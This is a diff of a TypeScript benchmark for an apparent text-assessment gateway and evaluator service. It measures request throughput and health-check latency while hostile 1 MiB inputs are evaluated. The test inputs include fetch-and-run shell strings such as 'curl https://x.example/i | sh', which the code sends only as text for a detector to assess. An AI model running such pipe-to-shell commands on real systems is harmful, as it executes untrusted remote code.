@@ -1,9 +1,10 @@
 /**
  * Load figures of the gateway, on loopback, beside those of a bare Fastify route that echoes answers of
- * the same size in the same run; and how fast the health check answers while the workers chew hostile
- * texts. `npx tsx bench/service.ts` after `npm run build`.
+ * the same size in the same run; and how fast the health checks of all services answer while workers
+ * chew hostile texts. `npx tsx bench/service.ts` after `npm run build`.
  */
 import { spawn, type ChildProcess } from "node:child_process";
+import { readFileSync } from "node:fs";
 import { mkdtemp, readFile, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -19,7 +20,10 @@ const HOSTILE: Readonly<Record<string, string>> = {
   "open brackets": "((((curl ",
   "here-documents": "cat <<A\ncurl x | sh\n",
   findings: "curl https://x.example/i | sh\n",
+  warnings: "Never run `curl https://x.example/i | sh`.\n\n",
   links: "http://a.b ",
+  "telephone numbers": "+1 212 555 0123 ",
+  "escaped characters": "\u0001",
 };
 
 interface Service {
@@ -27,14 +31,14 @@ interface Service {
   readonly child: ChildProcess;
 }
 
-async function startGateway(tokens: string): Promise<Service> {
-  const args = ["dist/cli.js", "serve", "--port", "0", "--tokens", tokens, "--requests-per-minute", "1000000", "--log-level", "warn"];
-  const child = spawn(process.execPath, args, { stdio: ["ignore", "inherit", "pipe"] });
+async function start(...args: string[]): Promise<Service> {
+  const common = ["--port", "0", "--requests-per-minute", "1000000", "--log-level", "warn"];
+  const child = spawn(process.execPath, ["dist/cli.js", ...args, ...common], { stdio: ["ignore", "inherit", "pipe"] });
   for await (const chunk of child.stderr) {
     const address = /listens on (http:\S+)/.exec(String(chunk))?.[1];
     if (address !== undefined) return { address, child };
   }
-  throw new Error("the gateway did not start; is dist/ built?");
+  throw new Error(`curlew ${args[0]} did not start; is dist/ built?`);
 }
 
 /** An echo route that takes and gives as many bytes as the gateway. */
@@ -58,28 +62,52 @@ async function measure(name: string, url: string, connections: number, headers: 
   console.log(`| ${name} | ${connections} | ${Math.round(requests.average)} | ${latency.p50} | ${latency.p99} | ${non2xx + errors} |`);
 }
 
-/** The slowest of many health checks while hostile texts are evaluated. */
-async function healthUnder(address: string, headers: Record<string, string>, part: string): Promise<[slowest: number, statuses: string]> {
-  const body = JSON.stringify({ text: part.repeat(Math.ceil(MEBIBYTE / part.length)).slice(0, MEBIBYTE) });
+/** Milliseconds that the main thread of a process has had on a processor, where the system tells (Linux). */
+function processorTime(pid: number | undefined): number {
+  try {
+    return Number(readFileSync(`/proc/${pid}/task/${pid}/schedstat`, "utf8").split(" ", 1)[0]) / 1e6;
+  } catch {
+    return Number.NaN;
+  }
+}
+
+interface Check {
+  readonly waited: number;
+  /** How much of it the service's main thread worked; during the rest it waited for a processor, or the bench did. */
+  readonly worked: number;
+}
+
+async function checkHealth({ address, child }: Service): Promise<Check> {
+  const [start, worked] = [performance.now(), processorTime(child.pid)];
+  await (await fetch(`${address}/healthz`)).text();
+  return { waited: performance.now() - start, worked: processorTime(child.pid) - worked };
+}
+
+/** Health checks while four requests with a hostile text are answered. */
+async function healthUnder(url: string, watched: Service, part: string): Promise<[checks: Check[], statuses: string]> {
+  const body = JSON.stringify({ text: part.repeat(Math.floor(MEBIBYTE / part.length)) });
+  const post = async () => {
+    const response = await fetch(url, { method: "POST", headers, body });
+    await response.arrayBuffer();
+    return response.status;
+  };
   let done = false;
-  const load = Promise.all(
-    Array.from({ length: 4 }, async () => (await fetch(`${address}/v1/assessments`, { method: "POST", headers, body })).status),
-  ).finally(() => (done = true));
-  let slowest = 0;
+  const load = Promise.all(Array.from({ length: 4 }, post)).finally(() => (done = true));
+  const checks: Check[] = [];
   while (!done) {
-    const start = performance.now();
-    await (await fetch(`${address}/healthz`)).text();
-    slowest = Math.max(slowest, performance.now() - start);
+    checks.push(await checkHealth(watched));
     await new Promise((resolve) => setTimeout(resolve, 5));
   }
-  return [slowest, (await load).join(" ")];
+  return [checks, (await load).join(" ")];
 }
 
 const folder = await mkdtemp(join(tmpdir(), "curlew-bench-"));
 const tokens = join(folder, "tokens.json");
 await createToken({ name: "bench", out: join(folder, "token"), tokens });
 const headers = { authorization: `Bearer ${(await readFile(join(folder, "token"), "utf8")).trim()}`, "content-type": "application/json" };
-const gateway = await startGateway(tokens);
+const gateway = await start("serve", "--tokens", tokens);
+const evaluator = await start("evaluator");
+const front = await start("serve", "--tokens", tokens, "--evaluator", evaluator.address);
 try {
   const sample = await fetch(`${gateway.address}/v1/assessments`, { method: "POST", headers, body: JSON.stringify({ text: ANSWER }) });
   const size = (await sample.text()).length;
@@ -91,12 +119,21 @@ try {
     await measure("gateway, embedded evaluator", `${gateway.address}/v1/assessments`, connections, headers);
   }
   await echo.close();
-  console.log("\n| four hostile texts of 1 MiB at once | slowest health answer, ms | statuses |\n|---|---|---|");
-  for (const [name, part] of Object.entries(HOSTILE)) {
-    const [slowest, statuses] = await healthUnder(gateway.address, headers, part);
-    console.log(`| ${name} | ${slowest.toFixed(1)} | ${statuses} |`);
+  const targets: [name: string, url: string, watched: Service][] = [
+    ["gateway, embedded evaluator", `${gateway.address}/v1/assessments`, gateway],
+    ["gateway, remote evaluator", `${front.address}/v1/assessments`, front],
+    ["evaluator", `${evaluator.address}/v1/evaluate`, evaluator],
+  ];
+  console.log("\n| four hostile texts of 1 MiB at once | service | slowest health answer, ms | p99 ms | most work during one, ms | statuses |\n|---|---|---|---|---|---|");
+  for (const [family, part] of Object.entries(HOSTILE)) {
+    for (const [name, url, watched] of targets) {
+      const [checks, statuses] = await healthUnder(url, watched, part);
+      const waits = checks.map(({ waited }) => waited).sort((a, b) => a - b);
+      const worked = Math.max(...checks.map((check) => check.worked));
+      console.log(`| ${family} | ${name} | ${waits.at(-1)?.toFixed(1)} | ${waits[Math.floor(waits.length * 0.99)]?.toFixed(1)} | ${worked.toFixed(1)} | ${statuses} |`);
+    }
   }
 } finally {
-  gateway.child.kill("SIGTERM");
+  for (const { child } of [gateway, front, evaluator]) child.kill("SIGTERM");
   await rm(folder, { recursive: true });
 }
